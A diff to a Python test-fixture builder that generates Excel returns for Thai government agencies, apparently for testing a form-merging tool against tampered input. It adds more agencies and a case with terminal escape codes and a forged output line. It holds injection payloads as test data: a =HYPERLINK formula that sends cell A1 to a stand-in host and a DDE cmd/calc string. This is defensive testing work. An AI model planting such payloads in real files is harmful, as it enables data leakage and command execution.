@@ -49,11 +49,12 @@ INJECTIONS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"ดูรายล
               "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tตัวอักษรแท็บ", "\rขึ้นบรรทัด",
               "=1+1"]
 
-GOOD_AGENCIES = [Agency(code=f"0300{i}", name=f"กรมตัวอย่างที่ {i}", ministry="กระทรวงมหาดไทย")
-                 for i in range(1, 4)]
-INJECTING_AGENCY = Agency(code="03009", name='=HYPERLINK("http://example.invalid","กรม")',
+# Ten, so that with the corpus a merge has over 40 files and reads them in worker processes.
+GOOD_AGENCIES = [Agency(code=f"030{i:02d}", name=f"กรมตัวอย่างที่ {i}", ministry="กระทรวงมหาดไทย")
+                 for i in range(1, 11)]
+INJECTING_AGENCY = Agency(code="03099", name='=HYPERLINK("http://example.invalid","กรม")',
                           ministry="@กระทรวง")
-MISSING_AGENCY = Agency(code="03008", name="กรมที่ไม่ส่งคืน", ministry="กระทรวงมหาดไทย")
+MISSING_AGENCY = Agency(code="03098", name="กรมที่ไม่ส่งคืน", ministry="กระทรวงมหาดไทย")
 UNKNOWN_AGENCY = Agency(code="99999", name="หน่วยงานนอกบัญชี", ministry="กระทรวงอื่น")
 
 
@@ -99,6 +100,8 @@ CASES = [
     Case("other-form.xlsx", "other-form", what="another form's workbook"),
     Case("unknown-version.xlsx", "unknown-version", what="this form at a version not bundled"),
     Case("no-metadata.xlsx", "no-metadata", what="the metadata sheet deleted"),
+    Case("escape-codes.xlsx", "other-form",
+         what="a form id holding terminal escape codes and a forged line of output"),
     Case("rows-inserted.xlsx", "structure-changed", what="sheet unprotected, 2 rows inserted"),
     Case("rows-deleted.xlsx", "structure-changed", what="sheet unprotected, a row deleted"),
     Case("wrong-agency.xlsx", "unknown-agency", state="ok", merge_state="unknown_agency",
@@ -112,7 +115,7 @@ CASES = [
 
 
 def build(root: Path) -> dict[str, Path]:
-    """Write into ``root/returns/`` the corpus, three good returns and a good return whose
+    """Write into ``root/returns/`` the corpus, ten good returns and a good return whose
     texts try to inject formulas, and ``root/roster.csv`` (the good agencies, the injecting
     one and one that never returns). Returns the path of every file in returns/ by name."""
     folder = root / "returns"
@@ -125,8 +128,8 @@ def build(root: Path) -> dict[str, Path]:
     for agency in GOOD_AGENCIES:
         files[f"{agency.code}.xlsx"] = good_return(layout, cellmap, agency, work,
                                                    folder / f"{agency.code}.xlsx")
-    files["03009.xlsx"] = good_return(layout, cellmap, INJECTING_AGENCY, work,
-                                      folder / "03009.xlsx", injections=True)
+    files["03099.xlsx"] = good_return(layout, cellmap, INJECTING_AGENCY, work,
+                                      folder / "03099.xlsx", injections=True)
     base = files["03001.xlsx"]
     for case in CASES:
         target = folder / case.name
@@ -360,6 +363,9 @@ BUILDERS: dict[str, Builder] = {
     "other-form.xlsx": _edit(_set_meta("B1", "some-other-form")),
     "unknown-version.xlsx": _edit(_set_meta("B2", "2599.9")),
     "no-metadata.xlsx": _edit(lambda book: book.remove(book[META_SHEET])),
+    # OOXML's escapes, as Excel writes control characters: ESC, BEL, then a new line
+    "escape-codes.xlsx": _edit(_set_meta("B1", "_x001B_[2J_x001B_]0;owned_x0007_\n"
+                                               "FAKE.xlsx: ok")),
     "rows-inserted.xlsx": _edit(lambda book: book["หมวด 3"].insert_rows(6, 2)),
     "rows-deleted.xlsx": _edit(lambda book: book["หมวด 7.2"].delete_rows(12, 1)),
     "wrong-agency.xlsx": _wrong_agency,
